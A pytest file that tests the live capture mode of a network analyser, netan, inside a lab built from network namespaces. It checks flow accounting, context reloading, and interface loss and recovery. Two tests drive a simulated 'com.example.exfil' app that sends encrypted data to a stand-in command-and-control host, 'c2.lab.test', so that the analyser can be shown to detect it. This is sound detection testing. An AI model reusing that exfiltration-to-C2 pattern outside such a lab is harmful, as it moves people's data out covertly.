"""`netan live` against real traffic between network namespaces.

The lab's gateway namespace runs `netan live -i br0` (a real tcpdump behind it)
while a device namespace runs real TLS, HTTP, DNS, UDP and a custom encrypted
TCP exchange to a server namespace. netan is stopped with SIGTERM; every
connection the apps made must be in flows.jsonl with exact payload byte counts.
Context files dropped into the watched directory mid-run are picked up, and the
interface deleted and re-created mid-run is waited for.
"""
from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from netan.testing import apps
from netan.testing.apps import Service
from netan.testing.netns import Lab, unavailable_reason

pytestmark = pytest.mark.netns

DNS = "10.77.2.53"
ZONE = {"www.lab.test": ["10.77.2.10"], "c2.lab.test": ["10.77.2.66"]}
SERVICES = [Service("dns", DNS, 53), Service("https", "10.77.2.10", 443, {"hostnames": ["www.lab.test"]}),
            Service("http", "10.77.2.10", 80), Service("frames", "10.77.2.66", 4443),
            Service("udp", "10.77.2.30", 5004)]


def _skip_without_lab():
    reason = unavailable_reason()
    if reason:
        pytest.skip(reason)


def start_live(lab: Lab, out: Path, *extra: str) -> subprocess.Popen:
    gw = lab.gateway.netns
    cmd = ["ip", "netns", "exec", gw, sys.executable, "-m", "netan.cli", "-q", "live", "-i", "br0",
           "--out", str(out), "--rescore-seconds", "1", "--context-poll-seconds", "0.3", *extra]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 20
    while not (out / "metrics.prom").exists():  # written once the capture runs
        assert proc.poll() is None, proc.stderr.read()
        assert time.time() < deadline, "netan live did not start"
        time.sleep(0.1)
    time.sleep(0.5)
    return proc


def stop_live(proc: subprocess.Popen) -> str:
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert "Traceback" not in err
    return err


def flows_of(out: Path) -> dict[tuple, dict]:
    recs = [json.loads(x) for x in (out / "flows.jsonl").read_text().splitlines()]
    return {(r["proto"], r["src_ip"], r["src_port"], r["dst_ip"], r["dst_port"]): r for r in recs}


def test_live_captures_every_connection_exactly(tmp_path):
    _skip_without_lab()
    from netan.testing.session import Session

    out = tmp_path / "live"
    with Lab(prefix="netanlive") as lab:
        s = Session(lab)
        s.add_device("phone", skew=0.0)
        s.add_server("internet", ["10.77.2.10", "10.77.2.30", DNS, "10.77.2.66"], SERVICES, zone=ZONE)
        proc = start_live(lab, out)
        with s.recording(tmp_path / "ref.pcap"):
            s.start_app("phone", "com.android.chrome")
            chrome = s.ctx("phone", "com.android.chrome")
            s.run("phone", apps.https_request, chrome, "www.lab.test", trust_pem=s.pki.trust_for("www.lab.test"),
                  path="/?size=30000")
            s.run("phone", apps.http_request, chrome, "www.lab.test", method="POST", path="/c", body=b"x" * 5000,
                  content_type="text/plain")
            ex = s.ctx("phone", "com.example.exfil")
            s.run("phone", apps.exfil_tcp, ex, "c2.lab.test", port=4443, sizes=[1100, 700, 900], mode="cbc",
                  interval=0.02, key_alias="k1")
            s.run("phone", apps.udp_exchange, s.ctx("phone", "com.example.voip"), "10.77.2.30", 5004,
                  [(100, 300), (60, 60)])
        time.sleep(0.5)
        stop_live(proc)
    got = flows_of(out)
    assert s.truth.flows, "the lab recorded no traffic"
    for t in s.truth.flows:
        r = got.get(t.five_tuple)
        assert r is not None, f"missing {t.kind} {t.five_tuple}"
        assert (r["bytes_out"], r["bytes_in"]) == (t.bytes_out, t.bytes_in), t.kind
    summary = json.loads((out / "summary.json").read_text())
    assert summary["command"] == "live" and summary["capture"]["dropped_by_kernel"] == 0
    assert summary["capture"]["captured"] >= summary["counts"]["packets"] > 0
    assert list(out.glob("flows-*.jsonl")), "no rotated flow file"
    assert not list(out.glob(".*")), "temporary files left behind"
    metrics = (out / "metrics.prom").read_text()
    assert "netan_packets_total" in metrics and 'netan_capture_dropped_total{by="kernel"} 0' in metrics


def test_context_dropped_mid_run_is_picked_up(tmp_path):
    _skip_without_lab()
    from netan.testing.session import Session

    out, ctx_dir = tmp_path / "live", tmp_path / "ctx"
    ctx_dir.mkdir()
    with Lab(prefix="netanlivectx") as lab:
        s = Session(lab)
        s.add_device("phone", skew=0.0)
        s.add_server("internet", ["10.77.2.66", DNS], [Service("dns", DNS, 53), Service("frames", "10.77.2.66", 4443)],
                     zone={"c2.lab.test": ["10.77.2.66"]})
        proc = start_live(lab, out, "--context", str(ctx_dir))
        with s.recording(tmp_path / "ref.pcap"):
            s.start_app("phone", "com.example.exfil")
            s.key_generated("phone", "com.example.exfil", "exfil_key")
            ex = s.ctx("phone", "com.example.exfil")
            s.run("phone", apps.exfil_tcp, ex, "c2.lab.test", port=4443, sizes=[1500, 1500], mode="ecb",
                  interval=0.02, key_alias="exfil_key")
        time.sleep(1.5)
        before = json.loads((out / "summary.json").read_text())["context"]["version"]
        s.write_context(ctx_dir)  # the MDM batch arrives late
        deadline = time.time() + 20
        while json.loads((out / "summary.json").read_text())["context"]["version"] == before:
            assert time.time() < deadline, "context change not picked up"
            time.sleep(0.3)
        stop_live(proc)
    recs = [json.loads(x) for x in (out / "flows.jsonl").read_text().splitlines()]
    exfil = [r for r in recs if r["dst_port"] == 4443]
    assert exfil and all(r["app"] == "com.example.exfil" for r in exfil)
    assert all(r["context_version"] is not None for r in exfil)
    chains = [json.loads(x) for x in (out / "chains.jsonl").read_text().splitlines()]
    assert any(c["app"] == "com.example.exfil" for c in chains)


def test_interface_loss_is_waited_for_or_exits(tmp_path):
    _skip_without_lab()
    with Lab(prefix="netanliveif") as lab:
        gw = lab.gateway.netns
        subprocess.run(["ip", "netns", "exec", gw, "ip", "link", "add", "probe0", "type", "veth", "peer", "name", "probe0p"], check=True)
        subprocess.run(["ip", "netns", "exec", gw, "ip", "link", "set", "probe0", "up"], check=True)
        out = tmp_path / "wait"
        cmd = ["ip", "netns", "exec", gw, sys.executable, "-m", "netan.cli", "live", "-i", "probe0", "--out", str(out)]
        proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        deadline = time.time() + 20
        while not (out / "metrics.prom").exists():
            assert time.time() < deadline and proc.poll() is None
            time.sleep(0.1)
        time.sleep(0.5)
        subprocess.run(["ip", "netns", "exec", gw, "ip", "link", "del", "probe0"], check=True)
        time.sleep(1.5)
        assert proc.poll() is None, "netan exited instead of waiting for the interface"
        subprocess.run(["ip", "netns", "exec", gw, "ip", "link", "add", "probe0", "type", "veth", "peer", "name", "probe0p"], check=True)
        subprocess.run(["ip", "netns", "exec", gw, "ip", "link", "set", "probe0", "up"], check=True)
        time.sleep(1.5)
        err = stop_live(proc)
        assert "went away" in err
        events = [e["event"] for e in json.loads((out / "summary.json").read_text())["interface_events"]]
        assert events[:2] == ["capture_lost", "interface_back"]
        # with --exit-on-iface-loss: a clear error and status 1
        subprocess.run(["ip", "netns", "exec", gw, "ip", "link", "add", "probe1", "type", "veth", "peer", "name", "probe1p"], check=True)
        subprocess.run(["ip", "netns", "exec", gw, "ip", "link", "set", "probe1", "up"], check=True)
        out2 = tmp_path / "exit"
        proc = subprocess.Popen(["ip", "netns", "exec", gw, sys.executable, "-m", "netan.cli", "live", "-i", "probe1",
                                 "--out", str(out2), "--exit-on-iface-loss"], stderr=subprocess.PIPE, text=True)
        while not (out2 / "metrics.prom").exists():
            assert proc.poll() is None
            time.sleep(0.1)
        time.sleep(0.5)
        subprocess.run(["ip", "netns", "exec", gw, "ip", "link", "del", "probe1"], check=True)
        _, err = proc.communicate(timeout=30)
        assert proc.returncode == 1 and "probe1" in err and "Traceback" not in err
        assert (out2 / "flows.jsonl").exists() and (out2 / "summary.json").exists()


def _many_requests(ctx, host, n):
    out = []
    for i in range(n):
        out.extend(apps.http_request(ctx, host, ip="10.77.2.10", path=f"/r{i}?size={500 + i}"))
    return out


def test_sigterm_under_load_loses_no_completed_flow(tmp_path):
    _skip_without_lab()
    from netan.testing.session import Session

    out = tmp_path / "live"
    with Lab(prefix="netanload") as lab:
        s = Session(lab)
        s.add_device("phone", skew=0.0)
        s.add_server("internet", ["10.77.2.10"], [Service("http", "10.77.2.10", 80)])
        proc = start_live(lab, out)
        with s.recording(tmp_path / "ref.pcap"):
            ctx = s.ctx("phone", "com.example.busy")
            for _ in range(2):
                s.spawn("phone", _many_requests, ctx, "10.77.2.10", 150)
            time.sleep(1.5)
            stopped_at = time.time()
            stop_live(proc)
    done = [t for t in s.truth.flows if t.end < stopped_at - 0.05]
    assert len(done) > 20, "the load did not get going"
    got = flows_of(out)
    missing = [t.five_tuple for t in done if t.five_tuple not in got]
    assert not missing, f"{len(missing)} completed flows lost, e.g. {missing[:3]}"
    for t in done:
        r = got[t.five_tuple]
        assert (r["bytes_out"], r["bytes_in"]) == (t.bytes_out, t.bytes_in)
